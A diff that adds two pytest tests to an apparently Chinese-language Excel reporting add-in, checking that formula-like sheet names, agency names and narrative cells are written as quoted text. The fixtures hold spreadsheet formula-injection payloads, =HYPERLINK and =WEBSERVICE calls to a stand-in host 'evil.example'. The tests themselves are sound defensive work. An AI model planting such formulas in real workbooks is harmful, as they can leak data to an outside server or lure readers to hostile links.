@@ -175,3 +175,37 @@ def test_check_and_collect_report_the_formula(filled: Filler, tmp_path: Path) ->
              if f["code"] == "S2.input"]
     assert len(mine) == 1 == len(alone) and mine[0]["message"] == alone[0]["message"]
     assert mine[0]["cell"] == spec.LAYOUT.locations["s1.proactive"].a1
+
+
+def test_the_addin_results_sheet_quotes_a_sheet_name_that_looks_like_a_formula() -> None:
+    """校验结果 is written cell by cell as each cell's Formula (XaWriteRows): a workbook's sheet renamed
+    "=HYPERLINK(...)" (S2.renamed names it) must arrive as text, quoted like the labels and messages."""
+    from xl_addin.adapters import livebook
+    from xl_addin.model import Finding, Report, Severity
+
+    name = '=HYPERLINK("http://evil.example","表三")'
+    f = Finding("S2", Severity.WARNING, name, "", (), {}, "工作表“表三”被改名", "", "S2:renamed", "S2.renamed")
+    (_, row) = livebook.results_grid(Report.of("x.xlsx", [f]))
+    assert row[2] == "'" + name
+
+
+def test_the_collect_summary_writes_agency_names_and_findings_as_text(template: Path, tmp_path: Path) -> None:
+    """An agency named like a formula on the roster and in its workbook, with a formula in its narrative: the
+    summary's 进度, 问题清单 and 汇总 hold every text as text (no <f> but the summary's own)."""
+    folder = tmp_path / "收件"
+    folder.mkdir()
+    name = '=HYPERLINK("http://evil.example","某某局")'
+    filled = api.put(template, {**api.sample_values(), "meta.agency": name}, tmp_path / "a.xlsx")
+    wb = openpyxl.load_workbook(filled)
+    wb[spec.NARRATIVE_SHEET][spec.LAYOUT.locations["s1.proactive"].a1] = '=WEBSERVICE("http://evil.example/")'
+    wb.save(folder / "某某局.xlsx")
+    roster = tmp_path / "名单.csv"
+    with roster.open("w", encoding="utf-8", newline="") as fh:
+        csv.writer(fh).writerows([["机关名称", "机关类别", "层级"], [name, "部门", "县级"]])
+    out = tmp_path / "汇总.xlsx"
+    run = cli("collect", folder, "--roster", roster, "-o", out)
+    assert run.returncode == 1, run.stdout + run.stderr
+    with zipfile.ZipFile(out) as zf:
+        xml = b"".join(zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))
+    assert b"evil" in xml  # the name and the finding are there ...
+    assert not re.search(rb"<f>[^<]*evil", xml)  # ... as text
